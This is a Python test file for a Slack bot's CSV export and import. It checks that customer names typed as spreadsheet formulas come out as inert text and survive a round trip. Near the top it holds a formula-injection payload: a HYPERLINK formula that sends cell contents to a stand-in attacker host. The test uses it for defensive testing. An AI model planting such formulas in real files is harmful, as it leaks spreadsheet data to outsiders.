"""`promisebot export` writes files a spreadsheet opens safely: a customer named as a formula in
Slack comes out as text, and import gives back exactly the same name."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
import sqlalchemy as sa

from bot.cli import main
from bot.factory.files import as_read, as_written
from bot.platform.db.tables import CustomerRow
from handlers import orders_views
from tests.slack_harness import (
    AS_OF,
    SALES_CHANNEL,
    World,
    eventually,
    world_fixture,  # noqa: F401 - the `world` fixture
)

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'


def promisebot(url: str, *args: str | Path) -> int:
    return main([*map(str, args), "--database-url", url], env={"PROMISEBOT_AS_OF": str(AS_OF)})


def customers(url_engine: sa.Engine) -> set[str]:
    with url_engine.connect() as connection:
        return set(connection.scalars(sa.select(CustomerRow.name)))


def test_a_formula_typed_in_slack_is_exported_as_text_and_reimports_as_the_same_name(
    world: World, tmp_path: Path
) -> None:
    # The attack: a customer "named" as a formula that sends the sheet's cells elsewhere.
    quote = world.promise(f"5 BRKT for {LEAK} by Wed 25 Nov")
    world.click(quote, orders_views.HOLD)
    eventually(lambda: world.slack.message(SALES_CHANNEL, quote.ts).edited)
    [stored] = customers(world.db.engine) - {"Acme"}

    assert promisebot(world.db.url, "export", tmp_path / "first") == 0
    with (tmp_path / "first" / "orders.csv").open(newline="") as file:
        [row] = list(csv.DictReader(file))
    assert row["customer"] == "'" + stored
    with (tmp_path / "first" / "orders.csv").open(newline="") as file:
        for cells in csv.reader(file):
            for cell in cells:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    # Round trip: the same name comes back, and a second export is byte for byte the first.
    again = tmp_path / "again.db"
    assert promisebot(f"sqlite:///{again}", "db", "upgrade") == 0
    assert promisebot(f"sqlite:///{again}", "import", tmp_path / "first") == 0
    engine = sa.create_engine(f"sqlite:///{again}")
    try:
        assert stored in customers(engine)
    finally:
        engine.dispose()
    assert promisebot(f"sqlite:///{again}", "export", tmp_path / "second") == 0
    for name in ("orders.csv", "items.csv", "receipts.csv"):
        assert (tmp_path / "first" / name).read_bytes() == (tmp_path / "second" / name).read_bytes()


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=x",
        "\r=x",
        "'=1+1",
        "''=x",
        "'Tis Ltd",
        "Acme",
        "",
        "a=b",
    ],
)
def test_every_text_survives_the_round_trip_and_none_is_live(text: str) -> None:
    written = as_written(text)
    assert as_read(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
